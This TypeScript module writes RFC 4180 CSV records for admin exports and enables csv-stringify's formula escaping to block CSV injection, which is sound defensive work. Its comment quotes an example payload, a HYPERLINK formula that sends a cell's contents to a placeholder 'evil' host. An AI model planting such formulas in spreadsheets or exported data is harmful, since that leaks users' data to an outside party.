// CSV for the admin exports (the console's and `rm5 … export`): RFC 4180
// (https://www.rfc-editor.org/rfc/rfc4180) with CRLF line ends, written by csv-stringify, and safe
// to open in a spreadsheet. Submitted text is attacker-controlled: a cell such as
// =HYPERLINK("http://evil/?"&A1) would run as a formula in Excel or Sheets, so csv-stringify's
// escape_formulas gives text starting with a formula trigger (=, +, -, @, tab, CR, and the
// full-width =, +, -, @ some spreadsheets read alike) a leading apostrophe, as OWASP recommends
// (https://owasp.org/www-community/attacks/CSV_Injection). Numbers are values, never escaped.
import { stringify } from 'csv-stringify/sync'

export type Cell = string | number | null | undefined

const OPTIONS = {
  record_delimiter: '\r\n',
  // csv-stringify quotes a field holding the whole record delimiter; a lone CR or LF must be quoted too.
  quoted_match: /[\r\n]/,
  escape_formulas: true,
} as const

/** One record, CRLF-terminated. */
export function csvRecord(cells: readonly Cell[]): string {
  return stringify([cells.map((cell) => cell ?? null)], OPTIONS)
}
